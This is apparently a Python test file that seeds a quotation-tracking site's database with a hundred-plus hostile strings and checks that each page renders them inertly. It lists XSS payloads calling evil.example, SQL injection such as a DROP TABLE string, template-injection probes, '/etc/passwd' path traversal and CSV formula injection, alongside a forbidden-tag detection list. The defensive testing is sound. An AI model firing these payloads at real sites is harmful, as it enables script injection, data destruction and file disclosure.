# ruff: noqa: E501
"""A hundred hostile strings in every field that an article can fill, and every page opened."""

import re
import sqlite3
from html.parser import HTMLParser

import pytest
from conftest import METADATA, Client, start_server
from corpus import AXES, Said, Told, make

from attribution.site.server import application

SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)",
           "file:///etc/passwd", "//evil.example/x", "https://a.example/\"onclick=alert(1)", "http://a.example/<script>",
           "https://a.example/' onmouseover='alert(1)", "https:javascript:alert(1)", "blob:https://a.example/1"]
TAGS = ["<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><a href='javascript:alert(1)'>x</a></svg>", "<iframe srcdoc='<script>alert(1)'>",
        "<body onload=alert(1)>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>",
        "<style>*{display:none}</style>", "<base href='//evil.example/'>", "<form action='//evil.example'><input>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data='data:text/html,x'>", "<embed src=x>",
        "<link rel=stylesheet href=//evil.example/x.css>", "</title><script>alert(1)</script>", "</script><script>alert(1)//",
        "</svg><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<a href=javascript:alert(1)>x</a>", "<mark class=content>",
        "</mark></blockquote></main>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript>x'>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>x"]
QUOTES = ['" onmouseover="alert(1)', "' onfocus='alert(1)", "` onclick=`alert(1)", '"><script>alert(1)</script>',
          "'><img src=x onerror=alert(1)>", '" style="position:fixed;inset:0', "&quot;><script>", "&#60;script&#62;",
          "&lt;script&gt;alert(1)&lt;/script&gt;", "\\\"><script>", "\\u003cscript\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E"]
TEMPLATES = ["{{ 7*7 }}", "{% raw %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
             "{% include '/etc/passwd' %}", "{{ site.datasette }}", "%s%s%n", "{0.__class__}", "{}"]
TEXT = ["\u202eevil\u202c", "\u2066\u2067abc", "\u200f\u200eabc", "שלום\u202eabc", "a\u0300\u0301" * 40, "\u200b" * 50,
        "x" * 3000, "W" * 800 + "<b>", "\u2028\u2029", "🙂" * 200, "\ufffd\ufffe", "́́́", "ﷺ" * 40, "\x02hit\x03",
        "\x1b[31mred", "a\u00a0" * 200, "  ", "‮gnp.exe", "𝕊𝕔𝕣𝕚𝕡𝕥", "ı̇İ"]
FORMULAS = ["=1+1", "=HYPERLINK(\"//evil.example\")", "+1", "-1", "@SUM(1)", "\t=1"]
SQL = ["'; DROP TABLE quotations; --", "\" OR 1=1 --", "1; SELECT load_extension('x')", "%' OR '1'='1", "NULL", "../../etc/passwd"]
STRINGS = [*SCHEMES, *TAGS, *QUOTES, *TEMPLATES, *TEXT, *FORMULAS, *SQL]


def clean(text: str) -> str:
    """As a string can come out of an article: its annotation braces apart."""
    return text.replace("{", "(").replace("}", ")")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A database built from hostile articles; what the stages would not let through is planted by hand."""
    assert len(STRINGS) >= 100
    told = [Told(text, f"2031-03-{1 + i % 28:02}", text, f"A {{1s:{clean(text)}x}} {{1u:said}} {{1c:y{clean(text)}}}. End.",
                 {1: Said("mira-tolan", of=(("ivo-brandt", 0.5),), stances=(("harbour", (i % 9 - 4) / 4),),
                          role=text)}, byline=text, url=text) for i, text in enumerate(STRINGS)]
    path = make(tmp_path_factory.mktemp("hostile") / "quotes.db", told, AXES)
    db = sqlite3.connect(path)
    uids = [row[0] for row in db.execute("SELECT uid FROM quotations ORDER BY id")]
    entities = []
    for i, text in enumerate(STRINGS):
        entities.append(db.execute("INSERT INTO entities (uid, name, kind, description, wikidata, n_said, n_targeted)"
                                   " VALUES (?, ?, 'person', ?, ?, 5, 5) RETURNING id", (f"h{i}", text, text, text)).fetchone()[0])
        db.execute("INSERT INTO entity_names VALUES (?, ?, 1)", (entities[-1], text))
        db.execute("INSERT INTO speaker_targets VALUES (?, 1, 3, 3, 0.5, '2031', '2031')", (entities[-1],))
        db.execute("INSERT INTO positions (speaker, axis, quotations, statements, mean, low, high) VALUES (?, 1, 3, 3, 0.1, 0, 0.2)",
                   (entities[-1],))
        for month in ("2031-01", "2031-02", text[:60] or "x"):
            db.execute("INSERT INTO positions (speaker, axis, month, quotations, statements, mean, low, high)"
                       " VALUES (?, 1, ?, 3, 3, 0.1, 0, 0.2)", (entities[-1], month))
        db.execute("INSERT INTO corrections (uid, field, value, old, status, note, who, \"when\", why)"
                   " VALUES (?, 'speaker', ?, ?, 'applied', ?, ?, ?, ?)", (uids[i], *[text] * 6))
        db.execute("UPDATE quotations SET speaker = ?, speaker_name = ?, speaker_how = ?, medium = ?, addressee = ?,"
                   " stance = ?, cue = ?, kind = CASE WHEN id % 5 THEN kind ELSE ? END, text = ? WHERE uid = ?",
                   (entities[-1], *[text] * 8, uids[i]))
        db.execute("INSERT INTO axis_statements VALUES (1, ?, ?, ?, ?, ?, 0.5, 0.5, 1)",
                   (100 + i, text, *(("positive", "example", None) if i % 2 else ("negative", "check", "positive"))))
        db.execute("UPDATE targets SET name = ? WHERE quotation = (SELECT id FROM quotations WHERE uid = ?)", (text, uids[i]))
    db.execute("UPDATE axes SET question = ?, negative = ?, positive = ?, negative_description = ?", (
        TAGS[0], QUOTES[3], TAGS[3], TAGS[2]))
    db.execute("UPDATE stances SET evidence = '[[0,1]]'")
    db.execute("INSERT INTO quotations_fts (quotations_fts) VALUES ('rebuild')")
    db.commit()
    return path, uids


def paths(uids, every: int = 1) -> list[str]:
    """All pages; of those of one quotation, article or speaker only one in ``every``."""
    numbers = range(0, len(uids), every)
    return ["/", "/quotes/quotations?_size=200", "/quotes/quotations?_search=script", "/-/axis/harbour", "/-/compare?speaker=h0&speaker=h15",
            "/-/compare?axis=harbour&outlet=1&outlet=2", "/-/network", "/-/network?of=h3", "/-/find?q=script", "/-/find",
            "/quotes/axis_statements?_size=200", "/quotes/entity_names", "/quotes/outlets", "/quotes/statements", "/quotes/builds",
            "/quotes", "/quotes/who_about_whom", "/quotes/speaker_positions", "/nothing/here",
            "/quotes/quotations?_search=%3Cscript%3E&speaker=%22%3E%3Cscript%3E", "/-/find?q=%22%3E%3Cscript%3Ealert(1)",
            "/quotes/entities?_size=200", "/quotes/articles?_size=200", "/quotes/corrections",
            "/quotes/targets", "/quotes/axes", "/quotes/opposite_statements?axis=", "/quotes/who_said_words?words=script",
            *(f"/-/quotation/{uids[i]}" for i in numbers), *(f"/-/article/article-{i}" for i in numbers),
            *(f"/-/speaker/h{i}" for i in numbers), *(f"/-/correct/{uids[i]}" for i in numbers)]


class Page(HTMLParser):
    """What a browser would act on."""

    def __init__(self, html: str):
        super().__init__()
        self.elements, self.texts = [], []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    handle_startendtag = handle_starttag


FORBIDDEN = {"iframe", "object", "embed", "base", "math", "marquee", "video", "template", "noscript", "body2"}


def check(html: str, path: str) -> None:
    page = Page(html)
    for tag, attributes in page.elements:
        assert tag not in FORBIDDEN, (path, tag)
        assert not [name for name in attributes if name.startswith("on") or "\x00" in name], (path, tag, attributes)
        if tag == "script":
            assert attributes.get("src", "").startswith("/-/static"), (path, attributes)
        for name in ("href", "src", "action", "xlink:href", "formaction"):
            address = (attributes.get(name) or "").strip().lower()
            assert re.match(r"(https?://|/|\?|#|$)", address), (path, tag, name, address[:80])
            assert not address.startswith("//"), (path, address[:80])
        if tag == "meta":
            assert "http-equiv" not in attributes, path
        if tag == "link":
            assert attributes["href"].startswith("/-/static") or attributes["rel"] == "alternate", (path, attributes)
    assert sum(tag == "main" for tag, _ in page.elements) <= 1, path


def test_nothing_comes_alive_in_the_html(hostile):
    path, uids = hostile
    client = Client(application(path, metadata=METADATA))
    for page in paths(uids):
        response = client.get(page)
        assert response.status_code == (404 if page == "/nothing/here" else 200), page
        check(response.text, page)


def test_every_string_is_shown_as_it_is(hostile):
    """Escaping shows a string, it does not swallow it."""
    from markupsafe import escape
    path, uids = hostile
    client = Client(application(path, metadata=METADATA))
    texts = dict(client.rows("SELECT uid, text FROM quotations"))
    for uid in uids:
        if len(texts[uid]) < 400 and texts[uid].strip():
            assert str(escape(texts[uid])) in client.get(f"/-/quotation/{uid}").text


def test_csv_of_a_chart_holds_no_formula(hostile):
    path, _ = hostile
    client = Client(application(path, metadata=METADATA))
    for line in client.get("/-/axis/harbour?_csv=spectrum").text.splitlines():
        assert not re.match(r'"?[=+@\t]|"?-[^\d]', line)


def test_browser_stays_calm(hostile, browser):
    """No alert, no complaint in the console, no broken layout; the tables hold every string."""
    path, uids = hostile
    process, address = start_server(path)
    browser.get_log("browser")
    try:
        for page in paths(uids, every=9):
            browser.get(address.rstrip("/") + page)  # an open alert would raise here
            wide = browser.execute_script("return document.documentElement.scrollWidth - window.innerWidth")
            assert wide <= 0, (page, wide)
            said = [e["message"] for e in browser.get_log("browser") if e["level"] == "SEVERE"]
            assert [message for message in said if "404" not in message or page != "/nothing/here"] == [], page
            assert browser.execute_script("return document.querySelectorAll('footer.ft').length") == 1, page
    finally:
        process.terminate()
        process.wait(10)
